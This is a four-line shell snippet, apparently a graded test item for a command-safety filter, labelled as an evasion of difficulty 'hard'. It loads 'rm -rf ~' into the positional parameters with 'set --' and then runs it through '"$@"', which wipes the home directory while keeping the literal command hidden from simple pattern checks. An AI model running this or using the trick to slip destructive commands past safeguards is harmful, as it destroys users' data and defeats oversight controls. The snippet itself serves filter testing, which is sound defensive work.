# evasion: set -- then "$@"
# grade: hard; does: rm-rf
set -- rm -rf ~
"$@"
